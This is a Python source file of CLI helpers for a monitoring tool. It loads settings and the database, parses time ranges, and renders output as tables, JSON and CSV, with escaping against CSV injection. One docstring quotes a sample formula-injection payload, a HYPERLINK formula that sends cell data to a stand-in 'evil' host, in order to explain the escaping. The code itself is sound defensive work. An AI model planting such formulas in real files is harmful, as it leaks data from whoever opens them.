"""Shared CLI plumbing: lazily loaded settings and database, output formats, time options."""

from __future__ import annotations

import csv
import functools
import io
import json
import unicodedata
from collections.abc import Callable, Iterable, Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import click
from sqlalchemy.engine import Engine

from monitor.config import ConfigError, Settings, load_config, parse_duration
from monitor.logs import register_secret, setup_logging
from monitor.store.db import DatabaseError, check_connection, create_db_engine
from monitor.store.migrate import upgrade
from monitor.textsafe import strip_bidi
from monitor.timeutil import as_utc, isoformat, utcnow


class App:
    """What every command needs, created on first use so `--help` never touches the database."""

    def __init__(self, config_path: Path | None) -> None:
        self.config_path = config_path
        self._settings: Settings | None = None
        self._engine: Engine | None = None

    @property
    def settings(self) -> Settings:
        if self._settings is None:
            self._settings = load_config(self.config_path)
            for secret in (
                self._settings.slack.bot_token,
                self._settings.slack.webhook_url,
                self._settings.http.api_token,
            ):
                register_secret(secret.get_secret_value() if secret else None)
            setup_logging(self._settings.log_level, self._settings.log_format)
        return self._settings

    def engine(self, migrate: bool = True) -> Engine:
        """The database engine; by default the schema is upgraded first (run/collect do this on start)."""
        if self._engine is None:
            engine = create_db_engine(self.settings.database_url)
            check_connection(engine)
            if migrate:
                upgrade(engine)
            self._engine = engine
        return self._engine


def handle_errors(func: Callable) -> Callable:
    """Turn expected failures (config, database) into one clear line and exit code 1."""

    @functools.wraps(func)
    def wrapper(*args: Any, **kwargs: Any) -> Any:
        try:
            return func(*args, **kwargs)
        except (ConfigError, DatabaseError) as exc:
            raise click.ClickException(str(exc)) from None

    return wrapper


# ----------------------------------------------------------------------------- time options


def parse_time(value: str, *, now: datetime | None = None, name: str = "--since") -> datetime:
    """A relative duration back from now (`7d`, `90m`) or an ISO 8601 date/time (UTC unless it says)."""
    now = now or utcnow()
    value = value.strip()
    try:
        return now - parse_duration(value)
    except ValueError:
        pass
    except OverflowError:
        raise click.BadParameter(f"{value!r} reaches too far back", param_hint=name) from None
    try:
        parsed = datetime.fromisoformat(value.replace("Z", "+00:00"))
    except ValueError:
        raise click.BadParameter(
            f"{value!r} is neither a duration (e.g. 24h, 7d) nor an ISO 8601 date/time", param_hint=name
        ) from None
    try:
        return as_utc(parsed)
    except OverflowError:
        raise click.BadParameter(f"{value!r} is out of range", param_hint=name) from None


def since_option(default: str | None) -> Callable:
    return click.option(
        "--since",
        default=default,
        show_default=bool(default),
        help="Start: a duration back from now (24h, 7d) or an ISO 8601 date/time.",
    )


def until_option() -> Callable:
    return click.option(
        "--until", default=None, help="End: a duration back from now or an ISO 8601 date/time."
    )


def format_option(choices: Sequence[str] = ("table", "json", "csv")) -> Callable:
    return click.option(
        "--format", "output_format", type=click.Choice(list(choices)), default=choices[0], show_default=True
    )


def time_range(since: str | None, until: str | None) -> tuple[datetime | None, datetime | None]:
    now = utcnow()
    start = parse_time(since, now=now, name="--since") if since else None
    end = parse_time(until, now=now, name="--until") if until else None
    if start is not None and start > now + timedelta(minutes=1):
        raise click.BadParameter(f"{since!r} is in the future", param_hint="--since")
    if start is not None and end is not None and end <= start:
        raise click.BadParameter("--until must be after --since", param_hint="--until")
    return start, end


# ----------------------------------------------------------------------------- output


def _display_width(text: str) -> int:
    """Terminal columns: CJK wide and fullwidth characters take two."""
    return sum(2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in text)


def _fit(text: str, width: int) -> str:
    if _display_width(text) <= width:
        return text + " " * (width - _display_width(text))
    out, used = [], 0
    for ch in text:
        w = _display_width(ch)
        if used + w > width - 1:
            break
        out.append(ch)
        used += w
    return "".join(out) + "…" + " " * (width - used - 1)


def _cell(value: Any) -> str:
    """One table cell on one line; bidi controls dropped so a title cannot reorder the columns beside it."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return isoformat(value) or ""
    if isinstance(value, float):
        return f"{value:.3f}"
    return " ".join(strip_bidi(str(value)).split())


def render_table(rows: Sequence[dict[str, Any]], columns: Sequence[str], max_width: int = 60) -> str:
    cells = [[_cell(row.get(col)) for col in columns] for row in rows]
    widths = [
        min(max_width, max([_display_width(col)] + [_display_width(r[i]) for r in cells]))
        for i, col in enumerate(columns)
    ]
    lines = ["  ".join(_fit(col, widths[i]) for i, col in enumerate(columns)).rstrip()]
    lines.append("  ".join("-" * w for w in widths))
    for row in cells:
        lines.append("  ".join(_fit(value, widths[i]) for i, value in enumerate(row)).rstrip())
    return "\n".join(lines)


def _jsonable(value: Any) -> Any:
    if isinstance(value, datetime):
        return isoformat(value)
    return value


# A spreadsheet evaluates a cell that starts with one of these as a formula (OWASP, CSV injection).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV value a spreadsheet shows as text and never runs.

    A headline such as `=HYPERLINK("http://evil/?"&A1)` would otherwise execute when the export is opened:
    text starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'` (OWASP's rule), after
    the bidi controls are dropped (they could hide that start). Numbers are numbers, left as they are.
    A carriage return inside text becomes a line feed: with the `\n` line terminator the csv module would
    leave it unquoted, and readers would split the row there.
    """
    value = _jsonable(value)
    if not isinstance(value, str):
        return value
    value = strip_bidi(value)
    if value.startswith(_FORMULA_START):
        value = "'" + value
    return value.replace("\r\n", "\n").replace("\r", "\n")


def emit(rows: Iterable[dict[str, Any]], output_format: str, columns: Sequence[str]) -> None:
    """Print rows as a table, a JSON array or CSV (with a header; cells made safe by `csv_cell`)."""
    rows = list(rows)
    if output_format == "json":
        data = [{k: _jsonable(v) for k, v in row.items()} for row in rows]
        click.echo(json.dumps(data, ensure_ascii=False, indent=2))
    elif output_format == "csv":
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore", lineterminator="\n")
        writer.writeheader()
        for row in rows:
            writer.writerow({k: csv_cell(row.get(k)) for k in columns})
        click.echo(buffer.getvalue(), nl=False)
    else:
        if not rows:
            click.echo("(no rows)")
        else:
            click.echo(render_table(rows, columns))
